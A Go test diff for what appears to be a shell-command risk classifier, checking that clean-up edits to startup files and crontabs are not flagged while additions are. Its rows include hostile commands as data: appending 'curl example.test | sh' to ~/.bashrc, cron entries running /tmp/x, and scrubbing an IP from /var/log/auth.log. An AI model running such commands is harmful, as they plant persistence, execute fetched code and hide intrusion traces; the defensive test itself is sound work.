@@ -419,3 +419,23 @@ func TestMacAndServerGaps(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 }
+
+// TestCleanupsAddNothing: clean-ups that take lines out of a startup file
+// or a crontab add nothing that runs (everyday); adding a line still is
+// persistence.
+func TestCleanupsAddNothing(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{"sed -i '/atomic-test/d' ~/.bash_profile", ""},
+		{"sed -i -e '/curl/d' -e '$d' ~/.bashrc", ""},
+		{"crontab -l | grep -v atomic | crontab -", ""},
+		{"crontab -l | sed '/atomic/d' | crontab -", ""},
+		{"sed -i '$ a curl example.test | sh' ~/.bashrc", PersistenceStartupFiles},
+		{"(crontab -l; echo '* * * * * /tmp/x') | crontab -", PersistenceStartupFiles},
+		{"echo '* * * * * /tmp/x' | crontab -", PersistenceStartupFiles},
+		{"sed -i '/10.0.0.5/d' /var/log/auth.log", DestructiveDelete},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
